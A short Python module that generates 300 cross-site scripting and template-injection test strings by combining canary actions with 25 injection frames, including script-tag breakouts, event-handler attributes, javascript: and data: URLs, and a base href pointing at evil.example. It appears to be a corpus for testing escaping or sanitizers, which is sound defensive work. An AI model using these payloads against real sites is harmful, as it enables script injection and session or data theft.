"""300 words that would run if a page took one of them for HTML, script, a template or an address."""

ACTIONS = [
    "window.canary=1", "canary=1", "top.canary=1", "self['canary']=1", "alert(1)", "confirm`1`", "parent.canary=1",
    "Function('canary=1')()", "eval('canary=1')", "setTimeout('canary=1')", "globalThis.canary=1",
    "document.title='canary'",
]  # fmt: skip
FRAMES = [
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    "</svg><img src=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<math><mi//xlink:href=data:x,<script>{}</script>>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "#{{{}}}",
    "<base href=//evil.example/><script>{}</script>",
]
PAYLOADS = [frame.format(action) for frame in FRAMES for action in ACTIONS]
